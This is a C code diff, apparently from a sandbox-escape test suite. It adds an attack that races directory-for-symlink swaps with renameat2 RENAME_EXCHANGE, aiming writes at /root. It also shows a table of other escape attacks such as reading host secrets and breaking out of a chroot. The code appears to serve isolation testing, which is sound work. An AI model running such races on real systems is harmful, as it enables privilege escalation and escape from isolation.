@@ -13,6 +13,7 @@
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
 #include <sys/xattr.h>
+#include <time.h>
 
 #define BTRFS_IOC_SUBVOL_CREATE 0x5000940eUL
 #define BTRFS_IOC_SNAP_CREATE   0x50009401UL
@@ -419,7 +420,32 @@ static void fs_17(struct run *r)
 	unlink("/cow/third");
 }
 
+static void fa_03(struct run *r)
+{
+	const char *out = arg(r, "outdir", "/root");
+	struct timespec now, end;
+	long swaps = 0;
+
+	mkdir("/tmp/race", 0777);
+	mkdir("/tmp/race/d", 0777);
+	unlink("/tmp/race/l");
+	if (symlink(out, "/tmp/race/l") != 0)
+		remark(r, "symlink: %s", strerrorname_np(errno));
+	close(open("/tmp/race/d/secret", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
+	clock_gettime(CLOCK_MONOTONIC, &end);
+	end.tv_sec += arg_number(r, "ms", 3000) / 1000;
+	do {
+		for (int i = 0; i < 64; i++)
+			swaps += renameat2(AT_FDCWD, "/tmp/race/d", AT_FDCWD, "/tmp/race/l",
+					 RENAME_EXCHANGE) == 0;
+		clock_gettime(CLOCK_MONOTONIC, &now);
+	} while (now.tv_sec < end.tv_sec);
+	r->attempts++;
+	remark(r, "%ld swaps", swaps);
+}
+
 const struct attack attacks_fs[] = {
+	{ "FA-03", "swaps a directory for a symlink", fa_03 },
 	{ "FS-01", "reads host secrets by absolute path", fs_01 },
 	{ "FS-02", "climbs 64 levels up from every mount", fs_02 },
 	{ "FS-03", "breaks out of a chroot by a kept descriptor", fs_03 },
